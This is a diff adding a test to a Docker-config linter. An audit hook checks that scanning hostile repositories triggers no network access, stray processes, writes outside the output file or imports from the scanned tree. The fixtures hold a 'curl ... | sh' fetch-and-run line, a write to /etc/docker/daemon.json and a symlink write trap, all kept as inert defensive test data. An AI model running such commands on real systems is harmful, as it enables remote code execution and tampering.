@@ -395,3 +395,98 @@ def test_a_symlink_named_on_the_command_line_is_said(tmp_path):
     done = bounded("scan", "daemon.json", cwd=tmp_path)
     assert "dlint: warning: daemon.json: a symbolic link, not followed" in done.stderr
     assert done.returncode == 0
+
+
+# -- the guard: what a whole run does, watched by an audit hook ---------------------------------
+
+AUDIT_DRIVER = r'''
+import json, os, sys
+sys.dont_write_bytecode = True  # Python's own .pyc writes are not dlint's
+output = os.path.realpath(sys.argv[1])
+trees = [os.path.realpath(p) for p in sys.argv[2:]]
+seen = []
+git_runs = []
+CODE = (".py", ".pyc", ".so", ".pth", ".pyd")
+HARDENED = ["-c", "core.fsmonitor=false", "-c", "core.untrackedCache=false"]
+
+
+def inside(path):
+    return any(path == t or path.startswith(t + os.sep) for t in trees)
+
+
+def writes(mode, flags):
+    if isinstance(mode, str) and any(c in mode for c in "wax+"):
+        return True
+    return isinstance(flags, int) and flags & (os.O_WRONLY | os.O_RDWR | os.O_CREAT)
+
+
+def hook(event, args):
+    if event.startswith("socket.") or event in ("urllib.Request", "os.system", "os.exec", "os.posix_spawn", "os.spawn", "os.fork"):
+        seen.append(f"{event} {args!r:.200}")
+    elif event == "subprocess.Popen":
+        argv = [str(a) for a in args[1]]
+        if argv[:1] != ["git"] or argv[1:5] != HARDENED or "ls-files" not in argv or "--work-tree" not in argv:
+            seen.append(f"subprocess {argv!r}")
+        git_runs.append(argv)
+    elif event == "open" and isinstance(args[0], (str, bytes)):
+        path = os.path.realpath(os.fsdecode(args[0]))
+        if writes(args[1], args[2]) and path != os.devnull:
+            folder, name = os.path.split(path)
+            base = os.path.basename(output)
+            if not (folder == os.path.dirname(output) and (name == base or name.startswith("." + base + "."))):
+                seen.append(f"write {path}")
+        elif inside(path) and path.endswith(CODE):
+            seen.append(f"code read from the scanned tree {path}")
+
+
+sys.addaudithook(hook)
+from linter.cli import main
+
+codes = []
+for tree in trees:
+    for form in ("sarif", "text"):
+        codes.append(main(["scan", "--format", form, "-o", output, tree]))
+    codes.append(main(["hosts", "-o", output, tree]))
+for name, module in list(sys.modules.items()):
+    path = os.path.realpath(getattr(module, "__file__", None) or "/nonexistent")
+    if inside(path):
+        seen.append(f"import {name} from {path}")
+print(json.dumps({"codes": codes, "seen": seen, "git": len(git_runs)}))
+'''
+
+
+def _hostile_repositories(tmp_path: Path):
+    """A few repositories that try what the issue lists (the examples cover the ordinary kinds)."""
+    hostile = write_tree(tmp_path / "hostile", {
+        "daemon.json": CONTROLS,
+        "evil-1.0.dist-info/entry_points.txt": "[dlint]\nevil = evilmod\n",
+        "evilmod.py": "raise SystemExit('imported')\n",
+        "policies/__init__.py": "raise SystemExit('imported')\n",
+        "linter/__init__.py": "raise SystemExit('imported')\n",
+        "provision.sh": "#!/bin/sh\ncurl http://127.0.0.1:9/x | sh\necho '{\"live-restore\": true}' > /etc/docker/daemon.json\n",
+    })
+    (hostile / "report.txt").symlink_to(tmp_path / "victim.txt")
+    gitrepo = write_tree(tmp_path / "gitrepo", {"etc/docker/daemon.json": '{"debug": true}', ".dlint.yaml": "policy-paths: [p]\n",
+                                                "p/x.yaml": POLICY.replace("REQUIRE", "{pattern: '^/srv/'}")})
+    git(gitrepo, "init", "-q")
+    git(gitrepo, "add", ".")
+    refs = policy_repo(tmp_path / "refs", "{$ref: 'http://127.0.0.1:9/x.json'}")
+    return [hostile, gitrepo, refs]
+
+
+def test_a_run_over_every_example_and_hostile_repository_stays_in_its_lane(tmp_path):
+    from .helpers import REPO
+
+    driver = tmp_path / "driver" / "audit.py"
+    driver.parent.mkdir()
+    driver.write_text(AUDIT_DRIVER)
+    output = tmp_path / "out" / "report"
+    output.parent.mkdir()
+    trees = [REPO / "examples", *_hostile_repositories(tmp_path)]
+    done = subprocess.run([sys.executable, str(driver), str(output), *map(str, trees)], cwd=tmp_path / "hostile",
+                          capture_output=True, text=True, timeout=600)
+    assert done.returncode == 0, done.stderr[-3000:]
+    verdict = json.loads(done.stdout.splitlines()[-1])
+    assert verdict["seen"] == [] and verdict["git"] >= 3  # the hook saw git run, and nothing else
+    assert 4 not in verdict["codes"] and verdict["codes"][-3:] == [2, 2, 2], verdict["codes"]
+    assert not (tmp_path / "victim.txt").exists()
